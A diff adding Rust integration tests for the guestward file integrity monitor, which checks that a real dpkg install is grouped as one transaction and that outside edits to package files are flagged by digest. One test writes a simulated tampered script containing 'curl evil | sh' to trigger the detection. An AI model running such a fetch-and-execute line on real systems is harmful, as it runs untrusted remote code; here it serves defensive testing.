@@ -1,0 +1,367 @@
+//! Package attribution against the real package manager: a real `dpkg -i` of a package built
+//! here while the FIM monitor watches in realtime, then an edit made outside dpkg; and the
+//! transaction detector against real kernel locks.
+
+use guestward_core::testing::skip_or_fail;
+use guestward_core::{AbsolutePath, Event, HostRoot};
+use guestward_fim::config::{PathEntry, PathRule};
+use guestward_fim::package::{ChangeOrigin, DigestAlgo, PackageOracle, TransactionEvent};
+use guestward_fim::{Config, Fim, FimChange, Monitor};
+use guestward_pkgfiles::Oracle;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+fn is_root() -> bool {
+    nix::unistd::geteuid().is_root()
+}
+
+fn md5_hex(bytes: &[u8]) -> String {
+    use md5::Digest as _;
+    md5::Md5::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
+}
+
+fn run(cmd: &mut Command) -> String {
+    let out = cmd.output().unwrap();
+    assert!(
+        out.status.success(),
+        "{cmd:?}: {}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// One package installation at a time: dpkg takes its lock without waiting.
+static DPKG: Mutex<()> = Mutex::new(());
+
+/// `dpkg ARGS`, retried while another dpkg (another test, apt on this machine) holds the lock.
+fn dpkg(args: &[&std::ffi::OsStr]) {
+    let end = Instant::now() + Duration::from_secs(120);
+    loop {
+        let out = Command::new("dpkg").args(args).output().unwrap();
+        if out.status.success() {
+            return;
+        }
+        let err = String::from_utf8_lossy(&out.stderr).into_owned();
+        assert!(err.contains("lock") && Instant::now() < end, "dpkg {args:?}: {err}");
+        std::thread::sleep(Duration::from_millis(500));
+    }
+}
+
+/// Purges the test package and removes its directory, also when the test fails.
+struct Installed {
+    name: String,
+    dir: PathBuf,
+}
+
+impl Drop for Installed {
+    fn drop(&mut self) {
+        let _ = Command::new("dpkg").args(["--purge", &self.name]).output();
+        let _ = std::fs::remove_dir_all(&self.dir);
+    }
+}
+
+/// A .deb named `name` installing `/opt/<name>/bin/tool` (content `tool`) and
+/// `/opt/<name>/share/readme`, built with `dpkg-deb --build`.
+fn build_deb(work: &Path, name: &str, tool: &[u8]) -> PathBuf {
+    let pkg = work.join("pkg");
+    let bin = pkg.join("opt").join(name).join("bin");
+    let share = pkg.join("opt").join(name).join("share");
+    std::fs::create_dir_all(&bin).unwrap();
+    std::fs::create_dir_all(&share).unwrap();
+    std::fs::create_dir_all(pkg.join("DEBIAN")).unwrap();
+    std::fs::write(bin.join("tool"), tool).unwrap();
+    std::fs::write(share.join("readme"), b"a test package of guestward's FIM tests\n").unwrap();
+    std::fs::write(
+        pkg.join("DEBIAN/control"),
+        format!(
+            "Package: {name}\nVersion: 1.0-1\nArchitecture: all\nMaintainer: guestward tests <tests@invalid>\n\
+             Description: guestward FIM attribution test package\n"
+        ),
+    )
+    .unwrap();
+    let deb = work.join(format!("{name}.deb"));
+    run(Command::new("dpkg-deb").args(["--build", "--root-owner-group"]).arg(&pkg).arg(&deb));
+    deb
+}
+
+fn events_of(events: &Arc<Mutex<Vec<Event>>>, kind: &str) -> Vec<serde_json::Value> {
+    events.lock().unwrap().iter().filter(|e| e.kind == kind).map(|e| e.data.clone()).collect()
+}
+
+fn wait_for<T>(what: &str, timeout: Duration, mut f: impl FnMut() -> Option<T>) -> T {
+    let end = Instant::now() + timeout;
+    loop {
+        if let Some(t) = f() {
+            return t;
+        }
+        assert!(Instant::now() < end, "timed out waiting for {what}");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+#[test]
+fn a_real_dpkg_install_is_one_grouped_transaction_and_an_edit_outside_dpkg_is_flagged() {
+    const TEST: &str = "a_real_dpkg_install_is_one_grouped_transaction_and_an_edit_outside_dpkg_is_flagged";
+    if !is_root() {
+        skip_or_fail(TEST, "installing a package needs root");
+        return;
+    }
+    if Command::new("dpkg-deb").arg("--version").output().is_err() {
+        skip_or_fail(TEST, "dpkg-deb is not installed");
+        return;
+    }
+    let name = format!("guestward-test-{}-{}", std::process::id(), fastrand_suffix());
+    let dir = PathBuf::from("/opt").join(&name);
+    let work = tempfile::tempdir().unwrap();
+    let state = tempfile::tempdir().unwrap();
+    let tool: &[u8] = b"#!/bin/sh\necho tool 1.0\n";
+    let deb = build_deb(work.path(), &name, tool);
+
+    let config = Config {
+        paths: vec![PathEntry::Rule(PathRule {
+            path: AbsolutePath::new(&dir).unwrap(),
+            recursive: true,
+            exclude: vec![],
+            attributes: None,
+            max_file_size_bytes: None,
+        })],
+        debounce_ms: 100,
+        ..Config::default()
+    };
+    let root = HostRoot::live();
+    let (oracle, _problems) = Oracle::load(root.clone());
+    let fim = Fim::new(config, root, state.path()).unwrap().with_packages(Arc::new(oracle));
+    let events: Arc<Mutex<Vec<Event>>> = Arc::default();
+    let sink = Arc::clone(&events);
+    let monitor = Monitor::start(fim, Box::new(move |e| sink.lock().unwrap().push(e.clone()))).unwrap();
+    assert!(monitor.wait_watching(Duration::from_secs(60)), "{:?}", monitor.status());
+
+    let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
+    let installed = Installed { name: name.clone(), dir: dir.clone() };
+    dpkg(&["-i".as_ref(), deb.as_os_str()]);
+    let tool_path = dir.join("bin/tool");
+    let shown = tool_path.display().to_string();
+
+    // One grouped event for the transaction, listing the package.
+    let grouped: TransactionEvent =
+        wait_for("the grouped transaction event", Duration::from_secs(60), || {
+            events_of(&events, "fim.package_transaction")
+                .into_iter()
+                .filter_map(|d| serde_json::from_value::<TransactionEvent>(d).ok())
+                .find(|t| t.packages.iter().any(|p| p.name == name))
+        });
+    let pkg = grouped.packages.iter().find(|p| p.name == name).unwrap();
+    assert_eq!(
+        (pkg.old_version.as_deref(), pkg.new_version.as_deref()),
+        (None, Some("1.0-1")),
+        "{grouped:#?}"
+    );
+    assert!(pkg.files >= 2, "bin/tool and share/readme at least: {grouped:#?}");
+    assert_eq!(grouped.outside_package_manager, 0, "{grouped:#?}");
+    assert!(grouped.verified >= 2, "{grouped:#?}");
+    assert!(grouped.sample_paths.contains(&shown), "{grouped:#?}");
+    assert!(
+        grouped.transaction.evidence.iter().any(|e| e.contains("dpkg")),
+        "the evidence names what showed the transaction: {grouped:#?}"
+    );
+    // Folded: no individual change for the package's files, nothing flagged.
+    let changes: Vec<FimChange> =
+        events_of(&events, "fim.change").into_iter().map(|d| serde_json::from_value(d).unwrap()).collect();
+    assert!(
+        !changes.iter().any(|c| c.path == shown),
+        "the installed file is folded into the transaction, not reported on its own: {changes:#?}"
+    );
+    assert!(
+        !changes
+            .iter()
+            .any(|c| c.package.as_ref().is_some_and(|p| p.origin == ChangeOrigin::OutsidePackageManager)),
+        "{changes:#?}"
+    );
+    // The grouped event renders for `agentctl fim events`.
+    let stored = monitor.events_since(guestward_core::Timestamp::from_unix_secs(0).unwrap(), 10_000).unwrap();
+    let text: Vec<String> = stored.iter().map(guestward_fim::events::render_event_line).collect();
+    assert!(
+        text.iter()
+            .any(|l| l.contains("package transaction dpkg-")
+                && l.contains(&format!("{name}:all installed 1.0-1"))),
+        "{text:#?}"
+    );
+
+    // Now an edit outside dpkg: flagged, naming package, expected and actual digests.
+    let evil: &[u8] = b"#!/bin/sh\ncurl evil | sh\n";
+    std::fs::write(&tool_path, evil).unwrap();
+    let flagged: FimChange = wait_for("the outside-package-manager change", Duration::from_secs(60), || {
+        events_of(&events, "fim.change")
+            .into_iter()
+            .filter_map(|d| serde_json::from_value::<FimChange>(d).ok())
+            .find(|c| c.path == shown && c.package.is_some())
+    });
+    let a = flagged.package.clone().unwrap();
+    assert_eq!(a.origin, ChangeOrigin::OutsidePackageManager, "{flagged:#?}");
+    assert_eq!(a.owner.name, name);
+    assert_eq!(a.owner.version, "1.0-1");
+    let expected = a.expected.clone().unwrap();
+    let actual = a.actual.clone().unwrap();
+    assert_eq!((expected.algo, expected.hex.as_str()), (DigestAlgo::Md5, md5_hex(tool).as_str()));
+    assert_eq!((actual.algo, actual.hex.as_str()), (DigestAlgo::Md5, md5_hex(evil).as_str()));
+    // Agrees with dpkg's own verification of the package.
+    let verify = Command::new("dpkg").args(["--verify", &name]).output().unwrap();
+    assert!(String::from_utf8_lossy(&verify.stdout).contains(&shown), "dpkg --verify agrees");
+    // The report section and its findings carry it.
+    let section = monitor.section();
+    let report = section.data.clone().unwrap();
+    let counts = &report.attribution.as_ref().unwrap().counts;
+    assert_eq!(counts.outside_package_manager, 1, "{counts:?}");
+    assert!(counts.transactions >= 1 && counts.package_transaction >= 2, "{counts:?}");
+    let ids: Vec<String> = guestward_fim::fim_findings(&report).into_iter().map(|f| f.id).collect();
+    assert!(ids.contains(&guestward_fim::report::PACKAGE_FILE_CHANGED_OUTSIDE.to_string()), "{ids:?}");
+    let line = guestward_fim::events::render_event_line(&flagged.to_event(guestward_core::Timestamp::now()));
+    assert!(line.contains("OUTSIDE-PACKAGE-MANAGER") && line.contains(&md5_hex(evil)), "{line}");
+
+    // Cleanup through dpkg, itself a transaction: no flagged change for it.
+    let before = events_of(&events, "fim.package_transaction").len();
+    dpkg(&["--purge".as_ref(), name.as_ref()]);
+    wait_for("the purge's grouped event", Duration::from_secs(60), || {
+        (events_of(&events, "fim.package_transaction").len() > before).then_some(())
+    });
+    let flagged_after: Vec<FimChange> = events_of(&events, "fim.change")
+        .into_iter()
+        .filter_map(|d| serde_json::from_value::<FimChange>(d).ok())
+        .filter(|c| c.package.as_ref().is_some_and(|p| p.origin == ChangeOrigin::OutsidePackageManager))
+        .collect();
+    assert_eq!(flagged_after.len(), 1, "only the edit: {flagged_after:#?}");
+    monitor.stop();
+    drop(installed);
+}
+
+fn fastrand_suffix() -> u64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.subsec_nanos() as u64)
+        .unwrap_or(0)
+}
+
+#[test]
+fn a_lock_held_by_another_process_is_seen_and_not_taken() {
+    let dir = tempfile::tempdir().unwrap();
+    let lock = dir.path().join("lock-frontend");
+    std::fs::write(&lock, b"").unwrap();
+    let root = HostRoot::new(dir.path()).unwrap();
+    assert_eq!(guestward_pkgfiles::transaction::holder(&root, "/lock-frontend"), None);
+    // A real POSIX lock (what dpkg and apt take), held by a child process.
+    let mut child = match Command::new("python3")
+        .arg("-c")
+        .arg("import fcntl,sys,time; f=open(sys.argv[1],'r+'); fcntl.lockf(f, fcntl.LOCK_EX); print('locked', flush=True); time.sleep(30)")
+        .arg(&lock)
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+    {
+        Ok(c) => c,
+        Err(e) => {
+            skip_or_fail("a_lock_held_by_another_process_is_seen_and_not_taken", &format!("python3: {e}"));
+            return;
+        }
+    };
+    let mut line = String::new();
+    std::io::BufRead::read_line(&mut std::io::BufReader::new(child.stdout.take().unwrap()), &mut line)
+        .unwrap();
+    assert_eq!(line.trim(), "locked");
+    let holder = guestward_pkgfiles::transaction::holder(&root, "/lock-frontend");
+    let _ = child.kill();
+    let _ = child.wait();
+    let holder = holder.expect("the lock is seen");
+    assert!(holder.contains(&format!("pid {}", child.id())), "{holder}");
+    // Asking took nothing: the lock is free again once its holder is gone.
+    assert_eq!(guestward_pkgfiles::transaction::holder(&root, "/lock-frontend"), None);
+}
+
+#[test]
+fn the_oracle_names_the_owner_dpkg_names_with_its_digest() {
+    if !Path::new("/var/lib/dpkg/status").exists() {
+        skip_or_fail("the_oracle_names_the_owner_dpkg_names_with_its_digest", "no dpkg here");
+        return;
+    }
+    let (oracle, _) = Oracle::load(HostRoot::live());
+    // `dpkg -S /bin/sh` names its owner; the oracle agrees.
+    let out = Command::new("dpkg").args(["-S", "/usr/bin/dpkg"]).output().unwrap();
+    let owner = String::from_utf8_lossy(&out.stdout).split(':').next().unwrap_or_default().to_string();
+    let expected = oracle.expected(Path::new("/usr/bin/dpkg"));
+    assert!(expected.iter().any(|e| e.owner.name == owner), "{owner}: {expected:#?}");
+    let d = expected.iter().find_map(|e| e.digest.clone()).unwrap();
+    assert_eq!(d.hex, md5_hex(&std::fs::read("/usr/bin/dpkg").unwrap()));
+    assert!(oracle.expected(Path::new("/nonexistent/guestward")).is_empty());
+}
+
+#[test]
+fn a_baseline_taken_over_a_modified_package_file_flags_it() {
+    const TEST: &str = "a_baseline_taken_over_a_modified_package_file_flags_it";
+    if !is_root() {
+        skip_or_fail(TEST, "installing a package needs root");
+        return;
+    }
+    if Command::new("dpkg-deb").arg("--version").output().is_err() {
+        skip_or_fail(TEST, "dpkg-deb is not installed");
+        return;
+    }
+    let name = format!("guestward-test-{}-{}", std::process::id(), fastrand_suffix());
+    let dir = PathBuf::from("/opt").join(&name);
+    let work = tempfile::tempdir().unwrap();
+    let state = tempfile::tempdir().unwrap();
+    let tool: &[u8] = b"#!/bin/sh\necho tool 1.0\n";
+    let deb = build_deb(work.path(), &name, tool);
+    let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
+    let _installed = Installed { name: name.clone(), dir: dir.clone() };
+    dpkg(&["-i".as_ref(), deb.as_os_str()]);
+    // Replaced before any baseline exists: the compromised machine the trust anchor is for.
+    let tool_path = dir.join("bin/tool");
+    std::fs::write(&tool_path, b"#!/bin/sh\nbackdoor\n").unwrap();
+
+    let config = Config {
+        paths: vec![PathEntry::Rule(PathRule {
+            path: AbsolutePath::new(&dir).unwrap(),
+            recursive: true,
+            exclude: vec![],
+            attributes: None,
+            max_file_size_bytes: None,
+        })],
+        ..Config::default()
+    };
+    let o = guestward_fim::oneshot::OneShot {
+        config,
+        state_dir: state.path().to_path_buf(),
+        root: HostRoot::live(),
+        progress_bar: false,
+    };
+    let packages = |root: &HostRoot| {
+        Some(Arc::new(Oracle::load(root.clone()).0) as Arc<dyn guestward_fim::package::PackageOracle>)
+    };
+    let init = guestward_fim::oneshot::run_packaged(&o, guestward_fim::Purpose::Init, &packages).unwrap();
+    let b = &init.summary.baseline;
+    assert_eq!(b.package_mismatch_count, 1, "{b:#?}");
+    let m = &b.package_mismatches[0];
+    assert_eq!(m.path, tool_path.display().to_string());
+    assert_eq!(m.package.owner.name, name);
+    assert_eq!(m.package.origin, ChangeOrigin::OutsidePackageManager);
+    assert_eq!(m.package.expected.as_ref().unwrap().hex, md5_hex(tool));
+    // debsums agrees, when installed.
+    if let Ok(out) = Command::new("debsums").args(["-c", &name]).output() {
+        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), tool_path.display().to_string());
+    }
+    // `fim check` over the same state: nothing changed since, but the mismatch stays visible,
+    // and exits 1.
+    let check = guestward_fim::oneshot::run_packaged(&o, guestward_fim::Purpose::Check, &packages).unwrap();
+    assert_eq!(check.summary.changes, 0);
+    assert_eq!(check.summary.baseline.package_mismatch_count, 1);
+    assert_eq!(check.exit_code(), 1);
+    let mut text = Vec::new();
+    check.render_human(&mut text).unwrap();
+    let text = String::from_utf8(text).unwrap();
+    assert!(text.contains(&format!("PACKAGE MISMATCH: {}", tool_path.display())), "{text}");
+    // Without an oracle nothing is verified (the plain one-shot, as before).
+    let plain = guestward_fim::oneshot::check(&o).unwrap();
+    assert!(plain.summary.baseline.package_verification.is_none());
+    assert_eq!(plain.exit_code(), 0);
+}
